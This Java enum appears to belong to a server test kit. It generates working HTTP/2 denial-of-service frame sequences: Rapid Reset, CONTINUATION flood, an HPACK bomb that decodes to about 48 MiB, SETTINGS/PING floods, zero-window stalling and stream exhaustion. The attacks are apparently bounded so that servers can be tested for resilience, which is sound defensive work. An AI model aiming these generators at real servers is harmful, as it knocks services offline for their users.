package io.httpmodels.server;

import java.io.ByteArrayOutputStream;

/**
 * The HTTP/2 denials of service {@link Http2AttackKit} holds servers to, each as the frames one attacking connection
 * sends: the SETTINGS it opens with, then batch after batch ({@link #batch(int)}) until the kit's bounds in count
 * ({@link #maxBatches()}) and time end it. An attack that must leave the server's answers unread
 * ({@link #readsWhileAttacking()} false) is one whose harm is what the server queues for it.
 */
public enum Http2Attack {

    /**
     * Rapid Reset (CVE-2023-44487): a request's HEADERS and at once its RST_STREAM, a hundred streams a batch, so the
     * client never has a stream open and no concurrency limit applies, while the server starts the work of each.
     */
    RAPID_RESET(true, 10_000) {
        @Override
        byte[] batch(int n) {
            ByteArrayOutputStream frames = new ByteArrayOutputStream();
            for (int i = 0; i < 100; i++) {
                int stream = Http2Frames.clientStream(n * 100 + i);
                frames.writeBytes(Http2Frames.frame(
                        Http2Frames.HEADERS, Http2Frames.END_STREAM | Http2Frames.END_HEADERS, stream, GET_PLAINTEXT));
                frames.writeBytes(Http2Frames.rstStream(stream, Http2Frames.CANCEL));
            }
            return frames.toByteArray();
        }
    },

    /**
     * The CONTINUATION flood (CVE-2024-27316 and its siblings across servers): one HEADERS without END_HEADERS, then
     * CONTINUATION frames that never end the block, each full of small valid header fields, so a server that
     * gathers the block before checking its size gathers without end.
     */
    CONTINUATION_FLOOD(true, 4_096) {
        @Override
        byte[] batch(int n) {
            ByteArrayOutputStream frames = new ByteArrayOutputStream();
            if (n == 0) {
                frames.writeBytes(Http2Frames.frame(Http2Frames.HEADERS, Http2Frames.END_STREAM, 1, GET_PLAINTEXT));
            }
            for (int i = 0; i < 4; i++) {
                frames.writeBytes(Http2Frames.frame(Http2Frames.CONTINUATION, 0, 1, CONTINUATION_FIELDS));
            }
            return frames.toByteArray();
        }
    },

    /**
     * An HPACK bomb: each request adds one field of about 4 KiB to the server's dynamic table (it fits the default
     * 4,096-byte table alone) and then names it by index 12,000 times, one byte each: a 16 KiB frame that decodes to
     * about 48 MiB of header fields, far past any header list limit, stream after stream.
     */
    HPACK_BOMB(true, 1_000) {
        @Override
        byte[] batch(int n) {
            return Http2Frames.frame(
                    Http2Frames.HEADERS,
                    Http2Frames.END_STREAM | Http2Frames.END_HEADERS,
                    Http2Frames.clientStream(n),
                    BOMB_BLOCK);
        }
    },

    /** A SETTINGS flood: empty SETTINGS frames, each owed an acknowledgement the client never reads. */
    SETTINGS_FLOOD(false, 10_000) {
        @Override
        byte[] batch(int n) {
            return EMPTY_SETTINGS_BATCH;
        }
    },

    /** A PING flood: PING frames, each owed a PING ACK the client never reads. */
    PING_FLOOD(false, 10_000) {
        @Override
        byte[] batch(int n) {
            return PING_BATCH;
        }
    },

    /**
     * The HTTP/2 never-reading client: it opens with SETTINGS_INITIAL_WINDOW_SIZE 0 and never grants credit, then asks
     * for answers of 4 KiB ({@code POST /echo} of a 4 KiB body) on stream after stream; no answer's body can be sent,
     * so each open stream's answer waits in the server.
     */
    ZERO_WINDOW(false, 1_000) {
        @Override
        byte[] settings() {
            return Http2Frames.settings(Http2Frames.SETTINGS_INITIAL_WINDOW_SIZE, 0);
        }

        @Override
        byte[] batch(int n) {
            ByteArrayOutputStream frames = new ByteArrayOutputStream();
            for (int i = 0; i < 10; i++) {
                int stream = Http2Frames.clientStream(n * 10 + i);
                frames.writeBytes(
                        Http2Frames.frame(Http2Frames.HEADERS, Http2Frames.END_HEADERS, stream, POST_ECHO_4K));
                frames.writeBytes(Http2Frames.frame(Http2Frames.DATA, Http2Frames.END_STREAM, stream, BODY_4K));
            }
            return frames.toByteArray();
        }
    },

    /**
     * Too many concurrent streams: request heads without END_STREAM ({@code POST /echo} whose body never comes), so
     * each stream stays open, far past the server's SETTINGS_MAX_CONCURRENT_STREAMS; the server must refuse the
     * streams above its limit (RST_STREAM, or GOAWAY) rather than hold them all.
     */
    TOO_MANY_STREAMS(true, 100) {
        @Override
        byte[] batch(int n) {
            ByteArrayOutputStream frames = new ByteArrayOutputStream();
            for (int i = 0; i < 100; i++) {
                frames.writeBytes(Http2Frames.frame(
                        Http2Frames.HEADERS,
                        Http2Frames.END_HEADERS,
                        Http2Frames.clientStream(n * 100 + i),
                        POST_ECHO));
            }
            return frames.toByteArray();
        }
    };

    private static final byte[] GET_PLAINTEXT = Http2Frames.requestBlock("GET", "/plaintext");
    private static final byte[] POST_ECHO = Http2Frames.requestBlock("POST", "/echo");
    private static final byte[] BODY_4K = new byte[4096];
    private static final byte[] POST_ECHO_4K = postEcho4k();
    private static final byte[] CONTINUATION_FIELDS = continuationFields();
    private static final byte[] BOMB_BLOCK = bombBlock();
    private static final byte[] EMPTY_SETTINGS_BATCH = repeat(Http2Frames.settings(), 1_000);
    private static final byte[] PING_BATCH = repeat(Http2Frames.ping(0x6874746d6f64656cL), 1_000);

    private final boolean readsWhileAttacking;
    private final int maxBatches;

    Http2Attack(boolean readsWhileAttacking, int maxBatches) {
        this.readsWhileAttacking = readsWhileAttacking;
        this.maxBatches = maxBatches;
    }

    /** The SETTINGS frame the attacking connection opens with: an empty one unless the attack needs its own. */
    byte[] settings() {
        return Http2Frames.settings();
    }

    /** The {@code n}th batch of frames (from 0), written and flushed as one. */
    abstract byte[] batch(int n);

    /** Whether the attacking connection reads the server's frames while it attacks (or only once it stops). */
    boolean readsWhileAttacking() {
        return readsWhileAttacking;
    }

    /** The most batches one attack sends, whatever its time bound. */
    int maxBatches() {
        return maxBatches;
    }

    private static byte[] postEcho4k() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(POST_ECHO);
        Http2Frames.literal(block, "content-length", "4096");
        return block.toByteArray();
    }

    /** 126 fields of 130 bytes ({@code x}, then 126 bytes of {@code a}): 16,380 bytes of valid HPACK. */
    private static byte[] continuationFields() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        String value = "a".repeat(126);
        for (int i = 0; i < 126; i++) {
            Http2Frames.literal(block, "x", value);
        }
        return block.toByteArray();
    }

    private static byte[] bombBlock() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(GET_PLAINTEXT);
        // 6 + 4,000 + 32 bytes of table entry (RFC 7541 §4.1): alone in the default 4,096-byte table, evicting the
        // last request's copy, so index 62 (the newest dynamic entry) names it.
        Http2Frames.indexedLiteral(block, "x-bomb", "b".repeat(4_000));
        for (int i = 0; i < 12_000; i++) {
            block.write(0x80 | 62); // an indexed header field (RFC 7541 §6.1)
        }
        return block.toByteArray();
    }

    private static byte[] repeat(byte[] frame, int times) {
        ByteArrayOutputStream frames = new ByteArrayOutputStream();
        for (int i = 0; i < times; i++) {
            frames.writeBytes(frame);
        }
        return frames.toByteArray();
    }
}
